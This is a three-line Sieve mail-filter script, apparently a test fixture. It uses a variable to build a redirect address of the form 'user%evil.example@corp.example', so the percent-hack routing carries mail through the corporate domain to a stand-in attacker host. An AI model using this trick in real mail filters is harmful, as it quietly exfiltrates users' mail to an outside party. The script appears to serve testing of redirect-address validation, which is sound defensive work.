require "variables";
set "u" "user%evil.example";
redirect "${u}@corp.example";
